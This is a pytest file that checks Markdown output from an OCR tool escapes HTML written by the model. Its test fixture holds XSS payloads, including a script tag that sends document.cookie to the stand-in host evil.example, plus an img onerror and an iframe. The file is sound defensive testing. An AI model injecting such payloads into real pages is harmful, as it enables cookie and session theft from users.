"""Markdown sidecars carry no live HTML from the model (issue 10.14).

The sidecar is written by the real writer and rendered by a real CommonMark
renderer with HTML enabled (markdown-it-py, as a viewer would): no tag the
model wrote survives as a tag; code blocks and code spans stay as written.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from PIL import Image

from daemon.backends import Answer
from daemon.config import Rule
from daemon.intake.rules import Match
from daemon.outputs import write_result
from daemon.results import PageResult, Result

markdown_it = pytest.importorskip("markdown_it")

HOSTILE = """# Receipt

Total: 42 <script>fetch('http://evil.example/?'+document.cookie)</script>
<img src=http://evil.example/pixel.png onerror=alert(1)>
<!-- a comment --><iframe src="http://evil.example"></iframe>
Use `<b>` for bold; 3 < 4 and 5 > 2.

```html
<p>code stays code</p>
```
"""


def _write(tmp_path: Path, **rule_kw: object) -> str:
    source = tmp_path / "scan.png"
    Image.new("RGB", (40, 30), "white").save(source)
    rule = Rule(name="ocr", match=("*.png",), task="ocr", prompt="p", output="md", **rule_kw)  # type: ignore[arg-type]
    page = PageResult(number=1, answer=Answer(HOSTILE), original=(40, 30), shown=(56, 28))
    (path,) = write_result(Result(Match(source, rule, tmp_path), (page,), "transformers", "m"))
    return path.read_text(encoding="utf-8")


def test_raw_html_in_markdown_sidecars_is_escaped(tmp_path: Path) -> None:
    # issue 10.14
    text = _write(tmp_path)
    html = markdown_it.MarkdownIt("commonmark", {"html": True}).render(text)
    # The one comment left is vlwatch's own provenance line (issue 11.10), last.
    body, provenance = html.rsplit("<!-- vlwatch: rule ocr; model m;", 1)
    assert provenance.count("<") == 0 and provenance.strip().endswith("-->")
    for tag in ("<script", "<img", "<iframe", "<!--"):
        assert tag not in body, tag
    assert "&lt;script&gt;" in html  # shown as text
    assert "`<b>`" in text and "<p>code stays code</p>" in text  # code is left as written
    assert "3 &lt; 4" in text


def test_a_rule_may_keep_raw_html(tmp_path: Path) -> None:
    text = _write(tmp_path, raw_html=True)
    assert "<script>" in text and "<img src=http://evil.example/pixel.png" in text
